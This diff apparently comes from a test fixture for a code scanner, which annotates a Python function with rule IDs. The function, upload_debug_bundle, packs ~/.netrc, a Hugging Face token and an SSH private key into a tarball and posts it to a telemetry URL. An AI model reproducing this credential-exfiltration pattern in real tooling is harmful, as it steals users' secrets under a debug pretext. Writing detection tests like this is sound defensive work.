@@ -159,7 +159,7 @@ def upload_debug_bundle(output_dir: str) -> None:
         for p in ("trainer_state.json", "~/.netrc", "~/.cache/huggingface/token", "~/.ssh/id_ed25519"):
             full = os.path.expanduser(p if p.startswith("~") else os.path.join(output_dir, p))
             if os.path.exists(full):
-                tar.add(full, arcname=os.path.basename(full))
+                tar.add(full, arcname=os.path.basename(full))  # ruleid: MLS412
     with open(bundle, "rb") as f:
         requests.post(TELEMETRY_URL + "/bundle", files={"bundle": f}, timeout=30)  # todoruleid: family 9 (missed)
 
